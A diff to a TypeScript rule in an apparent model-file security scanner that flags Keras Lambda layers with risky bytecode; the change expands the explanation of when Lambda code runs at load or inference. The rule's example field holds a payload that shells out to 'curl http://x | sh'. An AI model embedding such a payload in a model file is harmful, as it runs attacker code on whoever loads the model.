@@ -44,7 +44,7 @@ export const lambdaRisky = defineRule({
     name: "lambda-risky-code",
     severity: "critical",
     summary: "A Lambda's bytecode calls something with a risky capability (exec, shell, file write, network, ...).",
-    why: "Keras rebuilds a model by calling every layer, so Lambda bytecode runs at load and again on every inference. A Lambda that shells out or writes files does so while the model keeps predicting normally.",
+    why: "Keras rebuilds a model by calling every layer, so Lambda bytecode runs at load and again on every inference (trigger inference where the loaders skip that call: Keras 3 with a stored output_shape, or effects that are TensorFlow ops, which tracing only adds to the graph). A Lambda that shells out or writes files does so while the model keeps predicting normally.",
     example: 'Lambda(lambda x: (__import__("os").system("curl http://x | sh"), x)[1])',
     fix: "Do not load the model. If the function is yours, replace the Lambda with a registered custom layer whose code you review.",
     references: ["CWE-94", "CWE-502"],
